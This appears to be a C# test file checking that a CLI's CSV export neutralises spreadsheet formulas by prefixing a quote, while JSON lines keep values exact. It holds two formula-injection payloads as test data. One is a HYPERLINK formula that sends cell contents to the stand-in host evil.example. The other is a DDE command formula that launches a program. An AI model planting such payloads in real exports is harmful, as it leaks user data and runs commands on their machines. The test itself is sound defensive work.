using System.Globalization;
using System.Text.Json;
using Chroma.Protocol.V1;
using Chroma.Server.Cli;
using Chroma.Server.Tests.TestSupport;

namespace Chroma.Server.Tests.Cli;

/// <summary>
/// <c>export</c> and <c>export-labels</c> against a real server, of records and labels that carry spreadsheet formulas
/// (probe S, S4): the CSV cells get a <c>'</c> before them, numbers stay as they are, JSON lines stay exact.
/// </summary>
[TestFixture]
public sealed class CsvFormulaExportTests
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    private const string Command = "=cmd|'/C calc'!A0";

    private static readonly EmbeddingSetDescriptor Set = Records.Set(dimension: 3, model: "csv-formulas");
    private static readonly string SetId = Records.SetId(Set);

    [Test]
    [CancelAfter(60_000)]
    public async Task Export_CsvOfFormulaFields_CellsQuotePrefixedNumbersUntouchedAndJsonlExact(CancellationToken cancellationToken)
    {
        // Arrange: one record with a formula in each text field it can carry, one labeled with a plain negative number.
        await using var server = await RunningServer.StartAsync();
        var hostile = Records.Make([-0.5f, 1.25f, -3e-7f], "production", "@SUM(1)");
        hostile.InputUri = Hyperlink;
        hostile.Inference.PredictedClass = Command;
        var numeric = Records.Make([-1f, 0f, 2f], "training", "-1");
        numeric.Inference.PredictedClass = "+3.5";
        Assert.That((await server.LogAsync(Records.Batch(Set, hostile, numeric))).Select(a => a.Error), Has.All.Null);

        // Act
        var csv = await CliRun.RunAsync("export", "--endpoint", server.Server.Endpoint.ToString(), "--set", SetId, "--format", "csv")
            .WaitAsync(TimeSpan.FromSeconds(30), cancellationToken);
        var jsonl = await CliRun.RunAsync("export", "--endpoint", server.Server.Endpoint.ToString(), "--set", SetId, "--format", "jsonl")
            .WaitAsync(TimeSpan.FromSeconds(30), cancellationToken);

        // Assert
        Assert.That(new[] { csv.ExitCode, jsonl.ExitCode }, Has.All.EqualTo(CliExitCode.Success), csv.Error + jsonl.Error);
        var rows = CsvText.Parse(csv.Output);
        var column = rows[0].Select((name, index) => (name, index)).ToDictionary(c => c.name, c => c.index);
        var hostileRow = rows.Single(r => r[column["id"]] == hostile.Id);
        var numericRow = rows.Single(r => r[column["id"]] == numeric.Id);
        var json = jsonl.Output.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => JsonDocument.Parse(l).RootElement)
            .ToDictionary(r => r.GetProperty("id").GetString()!);
        Assert.Multiple(() =>
        {
            Assert.That(hostileRow[column["input_uri"]], Is.EqualTo("'" + Hyperlink));
            Assert.That(hostileRow[column["predicted_class"]], Is.EqualTo("'" + Command));
            Assert.That(hostileRow[column["label"]], Is.EqualTo("'@SUM(1)"));
            Assert.That(Embedding(hostileRow, column), Is.EqualTo(new[] { "-0.5", "1.25", (-3e-7f).ToString("R", CultureInfo.InvariantCulture) }));
            Assert.That(numericRow[column["label"]], Is.EqualTo("-1"), "a plain number is not a formula");
            Assert.That(numericRow[column["predicted_class"]], Is.EqualTo("+3.5"));
            Assert.That(Embedding(numericRow, column), Is.EqualTo(new[] { "-1", "0", "2" }));
            Assert.That(rows.SelectMany(r => r).Where(c => c.Length > 0 && c[0] is '=' or '@'), Is.Empty, "no cell a spreadsheet runs");
            Assert.That(json[hostile.Id].GetProperty("inputUri").GetString(), Is.EqualTo(Hyperlink), "JSON lines are exact");
            Assert.That(json[hostile.Id].GetProperty("predictedClass").GetString(), Is.EqualTo(Command));
            Assert.That(json[hostile.Id].GetProperty("label").GetString(), Is.EqualTo("@SUM(1)"));
        });
    }

    [Test]
    [CancelAfter(60_000)]
    public async Task ExportLabels_CsvOfFormulaLabelReviewerAndNote_CellsQuotePrefixedAndJsonlExact(CancellationToken cancellationToken)
    {
        // Arrange: a reviewer's label, name and note, each a formula.
        await using var server = await RunningServer.StartAsync();
        var endpoint = server.Server.Endpoint.ToString();
        var production = Records.Make([-2f, 0.5f, 0.25f], "production");
        Assert.That((await server.LogAsync(Records.Batch(Set, production))).Select(a => a.Error), Has.All.Null);
        var label = await CliRun.RunAsync("label", "--endpoint", endpoint, "--set", SetId, "--id", production.Id, "--label", Hyperlink, "--reviewer", "+ada", "--note", Command)
            .WaitAsync(TimeSpan.FromSeconds(30), cancellationToken);

        // Act
        var csv = await CliRun.RunAsync("export-labels", "--endpoint", endpoint, "--set", SetId, "--format", "csv")
            .WaitAsync(TimeSpan.FromSeconds(30), cancellationToken);
        var jsonl = await CliRun.RunAsync("export-labels", "--endpoint", endpoint, "--set", SetId, "--format", "jsonl")
            .WaitAsync(TimeSpan.FromSeconds(30), cancellationToken);

        // Assert
        Assert.That(new[] { label.ExitCode, csv.ExitCode, jsonl.ExitCode }, Has.All.EqualTo(CliExitCode.Success), label.Error + csv.Error + jsonl.Error);
        var rows = CsvText.Parse(csv.Output);
        var column = rows[0].Select((name, index) => (name, index)).ToDictionary(c => c.name, c => c.index);
        var row = rows.Single(r => r[column["id"]] == production.Id);
        var json = JsonDocument.Parse(jsonl.Output.Trim()).RootElement;
        Assert.Multiple(() =>
        {
            Assert.That(row[column["label"]], Is.EqualTo("'" + Hyperlink));
            Assert.That(row[column["labeled_by"]], Is.EqualTo("'+ada"));
            Assert.That(row[column["note"]], Is.EqualTo("'" + Command));
            Assert.That(row[column["e0"]], Is.EqualTo("-2"), "embedding components are numbers");
            Assert.That(json.GetProperty("label").GetString(), Is.EqualTo(Hyperlink), "JSON lines are exact");
            Assert.That(json.GetProperty("labeledBy").GetString(), Is.EqualTo("+ada"));
            Assert.That(json.GetProperty("note").GetString(), Is.EqualTo(Command));
        });
    }

    private static IEnumerable<string> Embedding(List<string> row, Dictionary<string, int> column) =>
        Enumerable.Range(0, 3).Select(d => row[column["e" + d.ToString(CultureInfo.InvariantCulture)]]);
}
